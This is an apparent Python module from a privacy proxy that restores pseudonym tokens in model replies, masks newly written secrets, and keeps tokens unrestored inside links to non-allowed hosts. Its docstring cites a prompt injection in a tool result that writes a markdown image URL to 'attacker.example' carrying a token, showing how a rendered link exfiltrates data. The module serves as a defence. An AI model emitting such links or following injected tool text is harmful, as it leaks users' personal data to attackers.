"""Text a model wrote, on its way back to the client: pseudonyms restored, new secrets masked.

`ResponseText` knows only the tokens minted while redacting this request. A token in that mapping
is replaced by its value; anything else of the token's shape (another tenant's token, one the
client typed, one the model made up) is left exactly as it is. In JSON mode (`in_json`: the raw
inside of a string literal) a value goes in JSON-escaped, and a token written with `\\u003c` and
`\\u003e` for its angle brackets (as some encoders do) is restored too; after an escaped backslash
(`\\\\u003c`) those letters are text, not a token.

`mask_new` (optional) masks what the model wrote that the request did not hold (secrets,
restricted data). It sees the text between tokens, never a token or a restored value; in JSON
mode it sees that text decoded, and its result is encoded again where it changed anything.

Streams: `stream()` gives one `StreamText` per channel. `feed` returns everything except the
longest suffix that could still become a token (`<PER`, `\\u003cPERSON_3f`), so a token split
over any number of chunks is restored and nothing else waits. With `mask_new` set, a stream also
holds back the unfinished word (from the last space, tab or line break, at most `WORD_CAP`
characters), a trailing run of digit groups (at most `VALUE_CAP` characters: a card written with
spaces arrives over several events, its groups perhaps on two lines) and a value-like word that ends
a line ("jane.doe@exam" before its "\n", until the next line's first word is complete), so that a
secret is masked whole: the one case that holds back more than a token prefix. `mask_new` then sees a
stream piece by piece, where a complete text is seen whole.

Links (policy `responses.restore_in_links`): a token inside a URL, a markdown link or image target,
or an HTML attribute stays a token unless the URL's host is on the allow list, because a client's
renderer fetches such a link and would send the value to whoever wrote it (a prompt injection in a
tool result can write `![x](https://attacker.example/p.png?d=<EMAIL_...>)`). Streams keep the last
`LINK_CONTEXT` characters of each channel to tell.

Fields: a value the model writes across two fields (content and then a tool call's arguments, two
content blocks) is read where they meet: the end of the last field written that a value may continue
(what a stream would hold back there: the unfinished word, trailing digit groups, when its last 64
characters hold a digit) is kept, and the next
field's first text is masked as its continuation (`mask_after`), so the part of the value in the second
field is masked; the part already sent in the first is too short to be a value on its own. The same
reading serves `top_logprobs`: an alternative token is read after the chosen text before it, masked
where it would complete or hold a restricted value, and nothing is restored into it.

`keep_transcript` keeps what the client is sent (the last `TRANSCRIPT_CHARS` characters), so that the
response's use check reads exactly the text this one reader passed on, in plain and streamed replies.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Mapping

from filters.recognizers.disguise import INVISIBLE
from filters.redact.pseudonyms import DIGEST_HEX, ENTITY_PATTERN, TOKEN_MAX_LEN, TOKEN_PARTIAL_RE, TOKEN_RE

WORD_CAP = 256
LINK_CONTEXT = 512
VALUE_CAP = 64   # the longest run of digit groups a stream holds back (a card, an IBAN, an id written spaced)
# Digit groups with one separator between them, up to the end of what came so far: a value written with
# spaces (`4111 1111 1111 1111`) arrives over several events, and is masked only when read whole.
# (a run starts at a word's start: after "4111\u200b" a run "1111 " is the same word's end, not a value's start;
# a group may hold invisible characters, "4012 88\u00ad88 ", which the masker reads through)
_VALUE_RUN = re.compile(rf"(?<![0-9A-Za-z{INVISIBLE}])(?:[A-Z]{{0,4}}[0-9][0-9{INVISIBLE}]{{0,11}}(?:[ .\-]|\\[nt])){{1,12}}"
                        rf"[0-9{INVISIBLE}]{{0,12}}$")
# The groups of a value written in parts (a card's "4556 7375 ", an IBAN's "DE89 3704 ", a phone's
# "(555) 123 "), each followed by one space or a line break; and a value-like word ending a line.
_GROUPS = re.compile(rf"(?<![^\s])(?:[0-9A-Z+()\-{INVISIBLE}]{{1,12}}(?: |\r?\n))+\Z")
_JSON_GROUPS = re.compile(rf"(?:(?<![^\s])|(?<=\\n))(?:[0-9A-Z+()\-{INVISIBLE}]{{1,12}}(?: |(?:\\r)?\\n))+\Z")
_LINE_END_WORD = re.compile(r"(?<![^\s])[\w@.+/=%:-]{4,80}\r?\n\Z")
_JSON_LINE_END_WORD = re.compile(r"(?:(?<![^\s])|(?<=\\n))[\w@.+/=%:-]{4,80}(?:\\r)?\\n\Z")
_VALUE_MARK = re.compile(r"[0-9@]")
_DIGIT = re.compile(r"[0-9]")

# What comes before a token places it in a link: the word it is part of (no spaces in a URL).
_WORD_START = re.compile(r'[\s"\'`]')
_SCHEME = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.-]*://|//|www\.|(?:mailto|tel|sms|data|javascript):)", re.I)
_MARKDOWN_TARGET = re.compile(r"\]\(\s*<?([^()\s]*)$")
_HTML_ATTRIBUTE = re.compile(r"<[A-Za-z][^<>]*\s[A-Za-z_:][-A-Za-z0-9_:.]*\s*=\s*(?:\\?[\"'])?([^\"'<>]*)$")
_HOST = re.compile(r"^(?:[A-Za-z][A-Za-z0-9+.-]*:)?(?://)?(?:[^/?#@\s]*@)?([^/?#:\s\\]+)")


def link_host(before: str) -> str | None:
    """When a token that follows `before` sits inside a link: the link's host ("" when it has none)."""
    markdown = _MARKDOWN_TARGET.search(before[-LINK_CONTEXT:])
    if markdown is not None:
        return _host(markdown.group(1))
    attribute = _HTML_ATTRIBUTE.search(before[-LINK_CONTEXT:])
    if attribute is not None:
        return _host(attribute.group(1))
    starts = [m.end() for m in _WORD_START.finditer(before, max(0, len(before) - LINK_CONTEXT))]
    word = before[starts[-1] if starts else max(0, len(before) - LINK_CONTEXT):]
    scheme = _SCHEME.search(word)
    if scheme is None:
        return None
    return _host(word[scheme.start():])


def _host(url: str) -> str:
    match = _HOST.match(url.strip().lstrip("<"))
    return match.group(1).lower() if match and ("://" in url or url.startswith(("//", "www."))) else ""


def _allowed(host: str, hosts: tuple[str, ...]) -> bool:
    return any(host == h or host.endswith("." + h) for h in hosts) if host else False
TRANSCRIPT_CHARS = 4000

# Inside a JSON string literal some encoders write < and > as \u003c and \u003e.
_OPEN = r"(?:<|\\u003[cC])"
_CLOSE = r"(?:>|\\u003[eE])"
_ESCAPE_PART = r"\\(?:u(?:0(?:0(?:3)?)?)?)?"   # \  \u  \u0  \u00  \u003: an escape not yet complete
_HEX = "[0-9a-f]"
TOKEN_JSON_RE = re.compile(rf"{_OPEN}(?P<entity>{ENTITY_PATTERN})_(?P<digest>{_HEX}{{{DIGEST_HEX}}}){_CLOSE}")
TOKEN_JSON_PARTIAL_RE = re.compile(
    rf"{_ESCAPE_PART}|{_OPEN}(?:{ENTITY_PATTERN}"
    rf"(?:_(?:{_HEX}{{0,{DIGEST_HEX}}}|{_HEX}{{{DIGEST_HEX}}}{_ESCAPE_PART}))?)?")
TOKEN_JSON_MAX_LEN = TOKEN_MAX_LEN + 2 * (len("\\u003c") - 1)

_SPACES = (" ", "\n", "\t", "\r")
_JSON_SPACES = (" ", "\\n", "\\t", "\\r")


def _escaped(text: str, pos: int, odd_before: bool) -> bool:
    """Whether the character at `pos` follows an odd run of backslashes (is itself escaped)."""
    start = pos
    while start > 0 and text[start - 1] == "\\":
        start -= 1
    run = pos - start + (1 if start == 0 and odd_before else 0)
    return run % 2 == 1


def _first(value: str | None, otherwise: str) -> str:
    return otherwise if value is None else value


class ResponseText:
    """The ResponseRewriter of one request: its pseudonyms (token -> value) and an optional `mask_new`."""

    def __init__(self, pseudonyms: Mapping[str, str],
                 mask_new: Callable[[str], str] | None = None, *, keep_transcript: bool = False,
                 link_hosts: tuple[str, ...] = (), mask_after: Callable[[str, str], str] | None = None,
                 words_before: Callable[[str], str] | None = None) -> None:
        self._values = dict(pseudonyms)
        self.mask_after = mask_after   # mask_new of a text read as the continuation of another
        self.words_before = words_before   # a stream's earlier text -> the end of it `mask_after` reads behind
        self.carry = ""               # the open end of the last field written (see the module's docstring)
        self.link_hosts = link_hosts
        self._json_values: dict[str, str] = {}
        self.mask_new = mask_new
        self._transcript: list[str] | None = [] if keep_transcript else None
        self._transcript_chars = 0
        self.written = 0   # characters passed on since the transcript was last read

    def learn(self, pseudonyms: Mapping[str, str]) -> None:
        """More tokens to restore: those of stored turns the request brought in (the conversation store)."""
        self._values.update(pseudonyms)

    @property
    def idle(self) -> bool:
        """Nothing to restore and nothing to mask: every text passes as it is."""
        return not self._values and self.mask_new is None

    def note(self, text: str, *, in_json: bool = False) -> None:
        """`text` as passed on to the client, kept for the transcript when one is kept."""
        if self._transcript is not None and text:
            if in_json:
                text = _decoded(text)
            self._transcript.append(text)
            self._transcript_chars += len(text)
            self.written += len(text)
            while self._transcript_chars - len(self._transcript[0]) > TRANSCRIPT_CHARS:
                self._transcript_chars -= len(self._transcript.pop(0))

    def transcript(self) -> str:
        """The last characters the client was sent (at least TRANSCRIPT_CHARS when there were as many)."""
        self.written = 0
        return "".join(self._transcript or ())

    @property
    def restores(self) -> bool:
        """Whether any token of this request can be restored."""
        return bool(self._values)

    def text(self, text: str, *, in_json: bool = False) -> str:
        """A complete text with known tokens restored (JSON-escaped when `in_json`) and new findings masked."""
        out = text if self.idle else self.rewrite(text, in_json, odd_before=False)
        if self._transcript is not None:
            self.note(out, in_json=in_json)
        return out

    def stream(self, *, in_json: bool = False) -> ResponseStream:
        """A fresh rewriter for one streamed channel (one content block, one tool call's arguments)."""
        return ResponseStream(self, in_json)

    def rewrite(self, text: str, in_json: bool, odd_before: bool, context: str = "") -> str:
        """`text` rewritten; `odd_before`: in JSON, the text before it ends inside an escape; `context`: the
        channel's text before it (a stream's earlier chunks), to tell a token inside a link."""
        # TOKEN_RE starts with a literal, which the regex engine scans for fast; TOKEN_JSON_RE does not.
        pattern = TOKEN_JSON_RE if in_json and "\\u003" in text else TOKEN_RE
        if self.mask_new is None:
            return pattern.sub(lambda m: _first(self._token(m, text, in_json, odd_before, context), m.group(0)),
                               text)
        pieces: list[str] = []
        cursor = 0
        lead = self.carry or self._words_before(context, text, in_json)
        for match in pattern.finditer(text):
            token = self._token(match, text, in_json, odd_before, context)
            if token is None:
                continue  # not a token at all: part of the text around it
            pieces.append(self._mask(text[cursor:match.start()], in_json, lead))
            self.carry = lead = ""   # a token ends what came before it
            pieces.append(token)
            cursor = match.end()
        last = text[cursor:]
        pieces.append(self._mask(last, in_json, lead))
        if last or cursor:
            self.carry = self._open_tail(_decoded(last) if in_json else last)
        return "".join(pieces)

    def alternative(self, before: str, token: str) -> str:
        """A token the model did not choose (`top_logprobs`), read after `before` (the chosen text before
        it): masked where it would complete or hold a restricted value; nothing restored into it."""
        if self.mask_new is None or not token:
            return token
        ends = [match.end() for match in TOKEN_RE.finditer(before)]
        if ends:
            before = before[ends[-1]:]   # the masks never see a token (see `rewrite`)
        if self.mask_after is None:
            return self.mask_new(token)
        return self.mask_after(before[-VALUE_CAP:], token)

    def _token(self, match: re.Match[str], text: str, in_json: bool, odd_before: bool,
               context: str = "") -> str | None:
        """A known token's value (JSON-escaped in JSON), an unknown one as it is; None: no token."""
        if not in_json:
            if match.group(0) in self._values and self._in_link(context, text, match.start()):
                return match.group(0)
            return self._values.get(match.group(0), match.group(0))
        if match.group(0)[0] == "\\" and _escaped(text, match.start(), odd_before):
            return None  # "\\u003c..." is a backslash and the letters u003c, not "<"
        key = f"<{match.group('entity')}_{match.group('digest')}>"
        if key not in self._values or self._in_link(context, text, match.start()):
            return match.group(0)
        escaped = self._json_values.get(key)
        if escaped is None:
            escaped = self._json_values[key] = json.dumps(self._values[key])[1:-1]
        return escaped

    def _in_link(self, context: str, text: str, start: int) -> bool:
        """Whether the token at `start` is inside a link whose host is not on the allow list."""
        before = context[-LINK_CONTEXT:] + text[max(0, start - LINK_CONTEXT):start]
        host = link_host(before)
        return host is not None and not _allowed(host, self.link_hosts)

    def _mask(self, text: str, in_json: bool, context: str = "") -> str:
        """`text` masked; read after `context` (the open end of the field before) when there is one."""
        mask_new = self.mask_new
        if not text or mask_new is None:
            return text
        if context and self.mask_after is not None:
            after = self.mask_after
            mask_new = lambda piece: after(context, piece)  # noqa: E731 - one call site
        if not in_json:
            return mask_new(text)
        try:
            decoded = json.loads(f'"{text}"', strict=False)
        except ValueError:
            return mask_new(text)  # not a valid string literal's inside: mask what is there
        masked = mask_new(decoded)
        return text if masked == decoded else json.dumps(masked)[1:-1]

    def _words_before(self, context: str, text: str, in_json: bool) -> str:
        """For a piece with 3 digits, the end of the stream's earlier pieces (after their last token): a value's
        context word ("SSN" before "536 22 8107") may have come in one of them."""
        if not context or self.words_before is None or self.mask_after is None or sum(map(str.isdigit, text)) < 3:
            return ""   # the shortest value that needs its word is a 3-digit code (fullwidth digits count)
        tail = self.words_before(_decoded(context[-WORD_CAP:]) if in_json else context)
        ends = [match.end() for match in TOKEN_RE.finditer(tail)] if "<" in tail else []
        return tail[ends[-1]:] if ends else tail

    def _open_tail(self, text: str) -> str:
        """The end of a text that the next field may continue into a value: what a stream would hold
        back there (the unfinished word, trailing digit groups, a value-like word ending a line)."""
        if not text or self.mask_after is None or _DIGIT.search(text, max(0, len(text) - VALUE_CAP)) is None:
            return ""   # only an end holding a digit is carried (cards, ids, keys): prose costs one search
        tail = text[-WORD_CAP:]
        probe = ResponseStream(self, False)
        return tail[min(probe.word_start(tail), probe.value_start(tail)):]


def _decoded(text: str) -> str:
    try:
        value = json.loads(f'"{text}"', strict=False)
    except ValueError:
        return text
    return value if isinstance(value, str) else text


class ResponseStream:
    """Rewrites one streamed channel: restores tokens split across chunks, holds back as little as it can."""

    def __init__(self, rewriter: ResponseText, in_json: bool) -> None:
        self._rewriter = rewriter
        self._in_json = in_json
        self._held = ""
        self._odd = False  # JSON: the text already passed on ends inside an escape
        self._before = ""  # the last LINK_CONTEXT characters already rewritten (as they came)

    @property
    def held(self) -> str:
        """What is held back now (a possible token prefix, or with mask_new the unfinished word)."""
        return self._held

    def feed(self, chunk: str) -> str:
        if self._rewriter.idle:
            self._rewriter.note(chunk, in_json=self._in_json)
            return chunk
        text = self._held + chunk
        cut = self._cut(text)
        self._held = text[cut:]
        return self._emit(text[:cut])

    def flush(self) -> str:
        text, self._held = self._held, ""
        return self._emit(text) if text else ""

    def _emit(self, text: str) -> str:
        out = self._rewriter.rewrite(text, self._in_json, self._odd, self._before) if text else ""
        self._before = (self._before + text)[-LINK_CONTEXT:]
        self._rewriter.note(out, in_json=self._in_json)
        if self._in_json and text:
            run = len(text) - len(text.rstrip("\\"))
            self._odd = (self._odd != (run % 2 == 1)) if run == len(text) else run % 2 == 1
        return out

    def _cut(self, text: str) -> int:
        """Where the part that is held back starts."""
        cut = self._token_start(text) if self._rewriter.restores else len(text)
        if self._rewriter.mask_new is not None:
            cut = min(cut, self.word_start(text), self.value_start(text))
        return cut

    @staticmethod
    def value_start(text: str) -> int:
        """The start of a trailing run of digit groups that the next chunk may continue; len(text) if none."""
        start = max(0, len(text) - VALUE_CAP)
        run = _VALUE_RUN.search(text, start)
        return run.start() if run is not None else len(text)

    def _token_start(self, text: str) -> int:
        """The start of the longest suffix that is a proper prefix of a token; len(text) if none."""
        if not self._in_json:
            pos = text.rfind("<", max(0, len(text) - TOKEN_MAX_LEN + 1))
            if pos >= 0 and TOKEN_PARTIAL_RE.fullmatch(text, pos):
                return pos
            return len(text)
        window = max(0, len(text) - TOKEN_JSON_MAX_LEN + 1)
        starts = [i for i in range(window, len(text)) if text[i] in "<\\"]
        for pos in starts:
            if TOKEN_JSON_PARTIAL_RE.fullmatch(text, pos) and \
                    not (text[pos] == "\\" and _escaped(text, pos, self._odd)):
                return pos
        return len(text)

    def word_start(self, text: str) -> int:
        """Just after the last word boundary; a forced cut when the word is longer than WORD_CAP."""
        limit = max(0, len(text) - WORD_CAP)
        boundary = -1
        for space in (_JSON_SPACES if self._in_json else _SPACES):
            found = text.rfind(space, limit)
            if found >= 0:
                boundary = max(boundary, found + len(space))
        if boundary >= 0:
            return self._parts_start(text, boundary)
        return self._forced_cut(text, limit) if limit else 0

    def _parts_start(self, text: str, boundary: int) -> int:
        """`boundary` moved back over the parts of a value written before it: digit groups, or a word
        that ends a line (see the module's docstring); `boundary` when there are none."""
        low = max(0, boundary - VALUE_CAP)
        groups = (_JSON_GROUPS if self._in_json else _GROUPS).search(text, low, boundary)
        if groups is not None and any(c.isdigit() for c in groups.group()):
            return groups.start()
        word = (_JSON_LINE_END_WORD if self._in_json else _LINE_END_WORD).search(text, low, boundary)
        if word is not None and _VALUE_MARK.search(word.group()):
            return word.start()
        return boundary

    def _forced_cut(self, text: str, cut: int) -> int:
        """`cut` moved so that it splits neither a token nor (in JSON) an escape sequence."""
        pattern = TOKEN_JSON_RE if self._in_json else TOKEN_RE
        for match in pattern.finditer(text, max(0, cut - TOKEN_JSON_MAX_LEN)):
            if match.start() >= cut:
                break
            if cut < match.end():
                return match.end()
        if self._in_json:
            for pos in range(cut - 1, max(-1, cut - 6), -1):
                if text[pos] != "\\":
                    continue
                if _escaped(text, pos, self._odd):
                    break  # the second half of "\\": the escape ended before the cut
                length = 6 if text[pos + 1:pos + 2] == "u" else 2
                return pos if pos + length > cut else cut
        return cut
